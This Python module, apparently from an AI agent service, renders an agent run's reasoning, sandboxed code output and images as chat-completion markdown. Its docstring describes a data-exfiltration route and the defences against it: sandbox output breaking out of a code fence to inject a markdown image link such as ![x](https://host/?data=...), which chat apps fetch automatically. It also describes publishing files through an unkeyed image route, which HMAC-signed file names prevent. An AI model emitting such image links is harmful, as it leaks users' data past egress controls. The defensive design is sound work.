"""A run's events as a chat completion: the reasoning text (thoughts, code, outputs) and the answer.

The same :class:`ChatRender` serves both modes: :meth:`ChatRender.feed` returns what an event adds to the
reasoning and to the content, which the streaming route sends at once as deltas and the other route joins.
Code is shown as a fenced ``python`` block and what it printed as a fenced ``text`` block; each is trimmed
(:data:`CODE_CHARS`, :data:`OUTPUT_CHARS` a step), and the whole reasoning stops at :data:`REASONING_CHARS`.

Chat apps render this text as markdown, images from any host included, so what sandbox code wrote must
stay text there: a line of three backticks in an output would close its fence and let the lines after it
be markdown (``![x](https://host/?data=...)``, which the app fetches: the user's data out, past every
egress rule). Inside a fence no three backticks ever follow each other (:meth:`ChatRender._fenced` puts a
ZERO WIDTH SPACE in the run, across chunks); the notes outside fences, whose text may come from code (a
part's test error, a tool's reason), have markdown's active characters escaped (:func:`plain`).

Images from ``display`` are saved in the user's folder, ``.thinkbox/images/RUN/N-TOKEN.EXT`` (they count
against the user's quota; the files API lists and deletes them), and linked as markdown images to
``/v1/images/RUN/N-TOKEN.EXT``. That route needs no key, because a chat app's browser fetches the image
without the app's API key; the token makes the link a capability that only the completion's reader
learns. It is not random but a MAC (:func:`image_name`, under the service's keys) of the run, the name and
the image's bytes: sandbox code can write in the user's folder, ``.thinkbox/images`` included, and would
otherwise publish whatever it wants to anyone who knows a run's id (under a name of its own, or over a
figure the service saved), past every egress rule. The route serves a file only when its bytes match
its name (:func:`image_is_ours`).
"""

from __future__ import annotations

import asyncio
import base64
import binascii
import hashlib
import hmac
import math
from dataclasses import dataclass, field
from typing import Literal

from thinkbox.agent.events import (
    ActionParsed,
    CodeRejected,
    DisplayProduced,
    Event,
    ExecutionFinished,
    FinalAnswer,
    LimitReached,
    Notice,
    OutputChunk,
    ParseFailed,
    RunError,
    RunFinished,
    RunResumed,
    StepStarted,
    ThoughtDelta,
)
from thinkbox.describe import describe
from thinkbox.service.accounts import Principal
from thinkbox.service.api.openai_schemas import Usage
from thinkbox.service.secrets.keys import Keyring
from thinkbox.service.storage import Storage, StorageError

CODE_CHARS = 4_000
OUTPUT_CHARS = 2_000
REASONING_CHARS = 60_000
IMAGE_TYPES = {"image/png": "png", "image/jpeg": "jpeg", "image/gif": "gif", "image/webp": "webp"}
IMAGE_DIR = ".thinkbox/images"
_ZWSP = "\u200b"
_MARKUP = str.maketrans({c: "\\" + c for c in "\\`[]<>"})


def plain(text: str) -> str:
    """``text`` for markdown outside a fence: backslash, backticks, brackets and angle brackets escaped, so it
    makes no link, image, HTML, code span or fence (the characters show as they are)."""
    return text.translate(_MARKUP)


def image_name(keys: Keyring, run_id: str, number: int, ext: str, data: bytes) -> str:
    """The name of the run's ``number``-th image ``data``: ``N-TOKEN.EXT``, TOKEN a MAC of all four."""
    return f"{number}-{_image_macs(keys, run_id, str(number), ext, data)[0][:32]}.{ext}"


def image_is_ours(keys: Keyring, run_id: str, name: str, data: bytes) -> bool:
    """Whether ``name`` is what :func:`image_name` gives for ``data`` in this run (under any of the keys)."""
    number, _, rest = name.partition("-")
    token, _, ext = rest.partition(".")
    macs = _image_macs(keys, run_id, number, ext, data)
    return any(hmac.compare_digest(token, mac[:32]) for mac in macs)


def _image_macs(keys: Keyring, run_id: str, number: str, ext: str, data: bytes) -> list[str]:
    parts = [
        b"thinkbox image link",
        run_id.encode(),
        number.encode(),
        ext.encode(),
        hashlib.sha256(data).digest(),
    ]
    return keys.macs(b"\0".join(parts))


def trim(text: str, limit: int) -> str:
    return text if len(text) <= limit else text[:limit] + f"\n... ({len(text) - limit:,} characters more)"


@dataclass
class ChatRender:
    storage: Storage
    owner: Principal
    run_id: str
    base_url: str
    """The service's URL as the client reached it (ends with ``/``), for image links."""
    keys: Keyring
    """The service's keys, which sign image links."""
    reasoning: list[str] = field(default_factory=list)
    content: str = ""
    finish_reason: Literal["stop", "length"] | None = None
    error: RunError | None = None
    tokens: int = 0
    images: list[str] = field(default_factory=list)
    _reply_chars: int = 0
    _reasoning_chars: int = 0
    _thought_seen: bool = False
    _fence_open: bool = False
    _output_chars: int = 0
    _ticks: int = 0
    """Backticks in a row at the end of what went inside the open fence (see :meth:`_fenced`)."""

    @property
    def finished(self) -> bool:
        return self.finish_reason is not None or self.error is not None

    @property
    def reasoning_text(self) -> str:
        return "".join(self.reasoning)

    def usage(self) -> Usage:
        """The run's tokens (every request's prompt and reply, summed by the loop), split by an estimate:
        the replies' characters / 4 as completion tokens, the rest as prompt tokens."""
        completion = min(self.tokens, math.ceil(self._reply_chars / 4))
        return Usage(
            prompt_tokens=self.tokens - completion, completion_tokens=completion, total_tokens=self.tokens
        )

    async def feed(self, event: Event) -> tuple[str, str]:
        """What ``event`` adds: (reasoning text, content text)."""
        reasoning, content = await self._render(event)
        if reasoning:
            room = REASONING_CHARS - self._reasoning_chars
            if room <= 0:
                reasoning = ""
            elif len(reasoning) > room:
                reasoning = reasoning[:room] + "\n... (the rest of the reasoning is left out)\n"
            self._reasoning_chars += len(reasoning)
            self.reasoning.append(reasoning)
        self.content += content
        return reasoning, content

    async def _render(self, event: Event) -> tuple[str, str]:
        if isinstance(event, StepStarted):
            self._thought_seen, self._output_chars = False, 0
            return ("\n\n" if self._reasoning_chars else ""), ""
        if isinstance(event, ThoughtDelta):
            self._thought_seen = True
            return event.text, ""
        if isinstance(event, ParseFailed):
            self._reply_chars += len(event.raw)
            return f"\n(the reply could not be used: {plain(trim(event.error, 300))}; asking again)\n", ""
        if isinstance(event, ActionParsed):
            self._reply_chars += len(event.thought) + len(event.code) + len(event.final_answer)
            thought = "" if self._thought_seen else event.thought
            self._ticks = 0
            code = f"\n```python\n{self._fenced(trim(event.code, CODE_CHARS).rstrip())}\n```\n"
            code = code if event.code else ""
            return thought + code, ""
        if isinstance(event, OutputChunk):
            return self._output(event.text), ""
        if isinstance(event, DisplayProduced):
            return await self._display(event), ""
        if isinstance(event, ExecutionFinished):
            return self._finished(event), ""
        if isinstance(event, CodeRejected):
            return f"\n(not run: {plain(trim('; '.join(event.problems), 500))})\n", ""
        if isinstance(event, Notice) and event.kind in ("docs", "repeat"):
            return f"\n({plain(trim(event.message, 500))})\n", ""
        if isinstance(event, RunResumed):
            return f"\n(the server restarted; the run went on: {plain(event.message or 'resumed')})\n", ""
        note = describe(event)
        if note is not None:
            return f"\n({plain(trim(note, 500))})\n", ""
        return self._end(event)

    def _output(self, text: str) -> str:
        room = OUTPUT_CHARS - self._output_chars
        if room <= 0:
            return ""
        self._output_chars += len(text)
        opener = "" if self._fence_open else "```text\n"
        if not self._fence_open:
            self._fence_open, self._ticks = True, 0
        return opener + self._fenced(text if len(text) <= room else text[:room] + "\n... (output trimmed)\n")

    def _fenced(self, text: str) -> str:
        """``text`` for inside the open fence: a ZERO WIDTH SPACE before every third backtick in a row (the
        row counted across calls, as chunks split it), so no line can close the fence."""
        if "`" not in text:
            self._ticks = 0 if text else self._ticks
            return text
        out = []
        for char in text:
            if char != "`":
                self._ticks = 0
            elif self._ticks == 2:
                out.append(_ZWSP)
                self._ticks = 1
            else:
                self._ticks += 1
            out.append(char)
        return "".join(out)

    def _close_fence(self) -> str:
        if not self._fence_open:
            return ""
        self._fence_open = False
        return "\n```\n"

    def _finished(self, event: ExecutionFinished) -> str:
        result, notes = event.result, []
        if result.result is not None:
            notes.append(f"-> {trim(result.result, 500)}")
        if event.assigned:
            notes.append(trim(event.assigned.rstrip(), 500))
        if result.error is not None:
            notes.append(trim(f"{result.error.type}: {result.error.message}", 500))
        if result.timed_out:
            notes.append("(timed out)")
        if event.session_restarted:
            notes.append("(the interpreter was restarted: its variables are gone)")
        if not notes:
            return self._close_fence()
        body = "\n".join(notes)
        return (self._output("\n" + body) if self._fence_open else self._output(body)) + self._close_fence()

    async def _display(self, event: DisplayProduced) -> str:
        for mime, ext in IMAGE_TYPES.items():
            if mime in event.mime:
                url = await self._save_image(event.mime[mime], ext)
                if url is None:
                    return self._close_fence() + "\n(an image could not be saved: see the storage quota)\n"
                self.images.append(url)
                return self._close_fence() + f"\n![figure {len(self.images)}]({url})\n"
        return ""

    async def _save_image(self, data: str, ext: str) -> str | None:
        try:
            raw = base64.b64decode(data, validate=False)
        except (binascii.Error, ValueError):
            return None
        name = image_name(self.keys, self.run_id, len(self.images) + 1, ext, raw)
        path = f"{IMAGE_DIR}/{self.run_id}/{name}"
        who = self.owner
        try:
            await asyncio.to_thread(self.storage.write, who.tenant_name, who.user_name, "user", path, raw)
        except StorageError:
            return None
        return f"{self.base_url}v1/images/{self.run_id}/{name}"

    def _end(self, event: Event) -> tuple[str, str]:
        if isinstance(event, FinalAnswer):
            self.finish_reason = "stop"
            links = "".join(f"\n\n![figure {i}]({url})" for i, url in enumerate(self.images, 1))
            return self._close_fence(), event.answer + links
        if isinstance(event, LimitReached):
            self.finish_reason = "length"
            return self._close_fence(), event.message
        if isinstance(event, RunError):
            self.error = event
            return self._close_fence(), ""
        if isinstance(event, RunFinished):
            self.tokens = event.tokens
        return "", ""
